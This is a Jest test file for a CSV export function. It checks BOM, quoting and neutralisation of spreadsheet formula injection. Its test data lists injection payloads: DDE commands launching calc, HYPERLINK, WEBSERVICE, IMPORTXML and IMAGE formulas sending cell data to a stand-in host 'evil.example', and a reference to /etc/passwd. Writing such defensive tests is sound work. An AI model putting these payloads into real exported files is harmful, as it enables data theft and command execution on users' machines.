import { describe, expect, it } from '@jest/globals';
import { type Column, csvOf } from './csv.js';

interface Row {
  readonly text: string | null;
  readonly count: number;
}

const COLUMNS: readonly Column<Row>[] = [
  { title: { vi: 'Nội dung', en: 'Text' }, cell: ({ text }) => text },
  { title: { vi: 'Số', en: 'Count' }, cell: ({ count }) => count },
];

/** Reads CSV as RFC 4180 has it: cells end with a comma, rows with a line break. */
function cellsOf(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, cell = '', end] of text.matchAll(/("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/g)) {
    rows.at(-1)?.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
    if (end !== ',') rows.push([]);
  }
  return rows.slice(0, -1);
}

const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u00a0=',
  '\u200b=',
  '\ufeff=',
  '＝',
  '＋',
  '－',
  '＠',
  '"=',
  "';=",
];
const FORMULAS = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example?x="&A1,"click")',
  'WEBSERVICE("https://evil.example")',
  'IMPORTXML(CONCAT("https://evil.example",A1),"//a")',
  'DDE("cmd";"/C calc";"x")',
  'SUM(1,2)*cmd|calc!A0',
  "2+5+cmd|' /C calc'!A0\r\n=1",
  'a","=1+1',
  'IMAGE("https://evil.example")',
  "'file:///etc/passwd'#$Sheet1.A1",
  '1;=1',
];

describe('A table as CSV', () => {
  it('begins with the byte order mark, has a title for each column and keeps numbers', () => {
    const rows = [
      { text: 'UBND xã “A”, huyện B', count: -3 },
      { text: null, count: 0 },
    ];
    expect(csvOf(rows, COLUMNS, 'vi')).toBe('\ufeffNội dung,Số\r\n"UBND xã “A”, huyện B",-3\r\n,0\r\n');
    expect(csvOf([{ text: 'say "no"', count: 1 }], COLUMNS, 'en')).toBe('\ufeffText,Count\r\n"say ""no""",1\r\n');
  });

  it(`holds none of ${STARTS.length * FORMULAS.length} formulas as one, and each as text in its own cell`, () => {
    const payloads = STARTS.flatMap((start) => FORMULAS.map((formula) => `${start}${formula}`));
    const rows = payloads.map((text, count) => ({ text, count }));
    const [, ...read] = cellsOf(csvOf(rows, COLUMNS, 'vi').slice(1));
    expect(read.length).toBe(payloads.length);
    for (const [at, cells] of read.entries()) {
      expect([payloads[at], cells.length, cells[1]]).toEqual([payloads[at], 2, String(at)]);
      expect([payloads[at], cells[0]]).toEqual([payloads[at], expect.not.stringMatching(/^[\s\p{Cf}]*[=+\-@＝＋－＠]/u)]);
      const shown = (payloads[at] ?? '').replaceAll(/[\p{Cc}\p{Cf}\s]+/gu, ' ').trim();
      expect(cells[0]?.replace(/^'(?=[=+\-@＝＋－＠])/u, '')).toBe(shown);
    }
  });
});
